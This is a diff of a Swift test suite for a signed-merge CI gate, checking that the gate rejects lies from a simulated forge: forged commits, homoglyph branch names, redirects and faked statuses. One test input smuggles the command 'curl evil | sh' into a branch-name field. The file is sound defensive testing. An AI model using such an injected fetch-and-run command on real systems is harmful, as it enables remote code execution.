@@ -16,14 +16,17 @@ struct GateLie: Sendable, CustomTestStringConvertible {
   var rules: [String] = []
   var words: [String] = ["--publish"]
   let status: Int32
-  var text = ""
-  /// Which state of the judged head the forge must have in the end; nil for none.
+  /// Part of what is printed; lines are folded at blanks.
+  let text: String
+  /// Which state of the judged head the forge must have in the end; nil for none, or for one that says "being judged".
   var published: String?
 
   var testDescription: String { says }
 
   private static let posts = #""method": "POST", "path": "/statuses/""#
   private static let comments = #""path": "/issues/1/comments$""#
+  /// What the gate says of the honest request.
+  static let lacks = "has 1 of 2 maintainers: alice next: stagex-maint cosign PR-1 (by one of: dave)"
 
   static let all = [
     // What is judged.
@@ -34,39 +37,56 @@ struct GateLie: Sendable, CustomTestStringConvertible {
       says: "the event is about a commit that nobody has", head: "$NONE", status: 2,
       text: "which is not in this clone"),
     GateLie(says: "the event's head is a file", head: "$BLOB", status: 2, text: "which is not in this clone"),
-    GateLie(says: "the event's head is a branch's name", head: "staging", status: 64),
-    GateLie(says: "the event's head is an option", head: "--all", status: 64),
-    GateLie(says: "the event is another repository's", repository: "\"eve/stagex\"", status: 64),
-    GateLie(says: "the event is of another kind", event: "issue_comment", status: 64),
+    GateLie(
+      says: "the event's head is a branch's name", head: "staging", status: 64, text: "is no full commit id: staging"),
+    GateLie(says: "the event's head is an option", head: "--all", status: 64, text: "is no full commit id: --all"),
+    GateLie(
+      says: "the event is another repository's", repository: "\"eve/stagex\"", status: 64,
+      text: "the event is about eve/stagex, and this job runs in stagex/stagex"),
+    GateLie(
+      says: "the event is of another kind", event: "issue_comment", status: 64,
+      text: "the event issue_comment changes no branch and asks for no merge"),
     GateLie(
       says: "the target is a branch that its own rules protect", base: "\"trap\"",
       refs: ["refs/remotes/origin/trap": "$EVIL"], status: 64, text: "is not protected here"),
     GateLie(
       says: "the target is staging with a Cyrillic letter", base: "\"st\\u0430ging\"",
-      refs: ["refs/remotes/origin/st\u{430}ging": "$EVIL"], status: 64),
-    GateLie(says: "the target holds a command", base: "\"x\\\"; curl evil | sh; \\\"\"", status: 64),
-    GateLie(says: "the target is the remote's HEAD", base: "\"HEAD\"", status: 64),
+      refs: ["refs/remotes/origin/st\u{430}ging": "$EVIL"], status: 64, text: "is not protected here"),
+    GateLie(
+      says: "the target holds a command", base: "\"x\\\"; curl evil | sh; \\\"\"", status: 64,
+      text: "pull_request.base.ref is no branch's name"),
+    GateLie(
+      says: "the target is the remote's HEAD", base: "\"HEAD\"", status: 64,
+      text: "refs/heads/HEAD is not protected here"),
     GateLie(
       says: "the server showed staging at a commit by nobody",
-      refs: ["refs/remotes/origin/staging": "$EVIL", "refs/pull/1/head": "$EVILHEAD"], status: 1),
+      refs: ["refs/remotes/origin/staging": "$EVIL", "refs/pull/1/head": "$EVILHEAD"], status: 1,
+      text: "which carries the rules, is not in order at", published: "failure"),
     GateLie(
-      says: "the server showed staging at the request", refs: ["refs/remotes/origin/staging": "$HEAD"], status: 1),
+      says: "the server showed staging at the request", refs: ["refs/remotes/origin/staging": "$HEAD"], status: 1,
+      text: "which carries the rules, is not in order at", published: "failure"),
     GateLie(
-      says: "the server showed staging with other people", refs: ["refs/remotes/origin/staging": "$NOBODY"], status: 1),
+      says: "the server showed staging with other people", refs: ["refs/remotes/origin/staging": "$NOBODY"], status: 1,
+      text: "which carries the rules, is not in order at", published: "failure"),
     GateLie(
       says: "the server showed staging as it was", refs: ["refs/remotes/origin/staging": "$START"], status: 1,
-      published: "failure"),
+      text: lacks, published: "failure"),
     GateLie(
-      says: "the server showed staging below the trust root", refs: ["refs/remotes/origin/staging": "$BELOW"], status: 1
-    ),
-    GateLie(says: "the server showed no staging", refs: ["refs/remotes/origin/staging": ""], status: 2),
+      says: "the server showed staging below the trust root", refs: ["refs/remotes/origin/staging": "$BELOW"],
+      status: 2, text: "is not on the first-parent line of refs/heads/staging", published: "error"),
+    GateLie(
+      says: "the server showed no staging", refs: ["refs/remotes/origin/staging": "", "refs/heads/staging": ""],
+      status: 2, text: "the branch refs/heads/staging is not in this clone"),
+    GateLie(
+      says: "the server showed no staging, and the clone has its own", refs: ["refs/remotes/origin/staging": ""],
+      status: 1, text: lacks, published: "failure"),
     // Where it is published. The verdict is the same, whatever the forge says.
     GateLie(
       says: "the forge does not answer", rules: [#"{"path": "^/api/", "do": {"delay": 30}}"#], status: 1,
       text: "not published: "),
     GateLie(
       says: "the forge falls silent after the first status", rules: [#"{\#(posts), "skip": 1, "do": {"delay": 30}}"#],
-      status: 1, text: "not published: "),
+      status: 1, text: "not published: ", published: "failure"),
     GateLie(
       says: "the forge sends the status on to another host",
       rules: [#"{\#(posts), "do": {"reply": {"status": 307, "headers": {"Location": "http://127.0.0.2:1/"}}}}"#],
@@ -77,7 +97,7 @@ struct GateLie: Sendable, CustomTestStringConvertible {
       text: #"\x1b[2Jno"#),
     GateLie(
       says: "the forge says that it was green", rules: [#"{\#(posts), "do": {"patch": {"status": "success"}}}"#],
-      status: 1, published: "failure"),
+      status: 1, text: lacks, published: "failure"),
     GateLie(
       says: "the list of comments never ends", rules: [#"{\#(comments), "method": "GET", "do": {"endless": true}}"#],
       status: 1, text: "too large", published: "failure"),
@@ -92,7 +112,7 @@ extension ForgeLieWorld {
   func gate(_ lie: GateLie, _ location: SourceLocation = #_sourceLocation) throws {
     try restore()
     let clone = try freshClone()
-    let ids = places.filter { $0.key != "NONE" && $0.key != "BLOB" && $0.key != "TREE" }.values.sorted()
+    let ids = places.filter { !["NONE", "BLOB", "TREE", "HEADTREE"].contains($0.key) }.values.sorted()
     try Tool.succeed("git", ["-C", clone, "fetch", "-q", forge.path(Self.standIn)] + ids)
     try Tool.succeed("git", ["-C", clone, "update-ref", "refs/pull/1/head", places["HEAD"]!])
     for (ref, place) in lie.refs {
@@ -112,10 +132,14 @@ extension ForgeLieWorld {
     let told = ForgeLie(says: lie.says, rules: lie.rules)
     let result = try meet(told, ["gate"] + lie.words, in: clone, extra: environment)
     #expect(
-      result.status == lie.status && result.all.contains(lie.text), "\(lie.says): \(result.status) \(result.all)",
-      sourceLocation: location)
-    let states = try forge.forge("show").matches(of: #/"status": "(\w+)"/#).map { String($0.1) }
-    #expect(states.last { $0 != "pending" } == lie.published, "\(lie.says): \(states)", sourceLocation: location)
+      !lie.text.isEmpty && result.status == lie.status && says(result, lie.text),
+      "\(lie.says): \(result.status) \(result.all)", sourceLocation: location)
+    // The newest first. Behind them come the rules, which hold words of the lie's.
+    let shown = try forge.forge("show")
+    let known = shown[..<(shown.firstRange(of: #""rules":"#)?.lowerBound ?? shown.endIndex)]
+    let states = known.matches(of: #/"status": "(\w+)"/#).map { String($0.1) }
+    let last = states.first == "pending" ? nil : states.first
+    #expect(last == lie.published, "\(lie.says): \(states)", sourceLocation: location)
     if lie.status != 0 { #expect(!states.contains("success"), "\(lie.says): \(states)", sourceLocation: location) }
   }
 }
@@ -129,8 +153,11 @@ struct GateLiesTests {
   @Test func `Of the lies that reach the gate each is told, or fools nobody`() throws {
     let world = try ForgeLieWorld()
     for lie in GateLie.all { try world.gate(lie) }
-    try world.gate(GateLie(says: "none, of a request that lacks people", status: 1, published: "failure"))
     try world.gate(
-      GateLie(says: "none", head: "$SECOND", refs: ["refs/pull/1/head": "$SECOND"], status: 0, published: "success"))
+      GateLie(says: "none, of a request that lacks people", status: 1, text: GateLie.lacks, published: "failure"))
+    try world.gate(
+      GateLie(
+        says: "none", head: "$SECOND", refs: ["refs/pull/1/head": "$SECOND"], status: 0,
+        text: "the rule is satisfied as soon as one of these makes the signed merge: alice", published: "success"))
   }
 }
